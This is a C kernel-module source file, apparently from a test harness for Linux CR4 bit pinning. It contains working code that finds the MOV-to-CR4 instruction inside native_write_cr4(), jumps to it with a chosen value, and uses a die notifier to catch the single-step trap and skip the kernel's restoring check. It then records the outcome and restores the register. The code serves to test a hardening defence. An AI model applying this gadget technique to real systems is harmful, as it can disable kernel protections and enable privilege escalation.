// SPDX-License-Identifier: GPL-2.0-only
/*
 * Continues after a trap in the kernel's own code, and uses such code: after its MOV,
 * native_write_cr4() checks the value that it wrote, and restores the bits. An attacker
 * that single-steps the MOV leaves before that check.
 */
#include <linux/irqflags.h>
#include <linux/kdebug.h>
#include <linux/string.h>
#include <asm/processor-flags.h>
#include <asm/segment.h>
#include <asm/ptrace.h>
#include "access.h"
#include "cr.h"
#include "entry.h"
#include "landing.h"

struct landing landing;

static int on_die(struct notifier_block *block, unsigned long event, void *data)
{
	struct pt_regs *regs = ((struct die_args *)data)->regs;

	if (event == DIE_GPF && landing.at && regs->ip == landing.at)
		landing.fault = true;
	else if (event != DIE_DEBUG || !landing.after ||
		 regs->ip != landing.after)
		return NOTIFY_DONE;
	regs->ip = landing.resume;
	regs->sp = landing_sp;
	regs->cs = __KERNEL_CS;
	regs->ss = __KERNEL_DS;
	regs->flags &= ~X86_EFLAGS_TF;
	return NOTIFY_STOP;
}

static struct notifier_block block = { .notifier_call = on_die };

int landing_begin(void)
{
	return register_die_notifier(&block);
}

void landing_end(void)
{
	unregister_die_notifier(&block);
}

/* Finds MOV %rdi, %cr4 in native_write_cr4(). */
static unsigned long find_gadget(void)
{
	static const u8 mov[] = { 0x0f, 0x22, 0xe7 };
	const u8 *code = symbol("native_write_cr4");

	for (int i = 0; code && i < 32; i++) {
		if (!memcmp(code + i, mov, sizeof(mov)))
			return (unsigned long)code + i;
	}
	return 0;
}

void attack_rop(const struct attack *attack, struct attempt *a)
{
	unsigned long rip, gadget;

	/* Look up the symbols here: that takes mutexes. */
	local_irq_enable();
	gadget = find_gadget();
	local_irq_disable();
	a->rip = gadget;
	a->old = a->seen = read_register(REG_CR4);
	a->new = wanted(attack, a->old);
	if (!gadget)
		return;
	landing = (struct landing){
		.at = gadget, .after = gadget + 3,
		.resume = (unsigned long)rop_back,
	};
	rop_step(gadget, a->new);
	a->fault = landing.fault;
	landing = (struct landing){};
	a->seen = read_register(REG_CR4);
	a->mark = attack->effect(a);
	if (a->seen != a->old)
		mov_cr4(a->old, &rip);
}
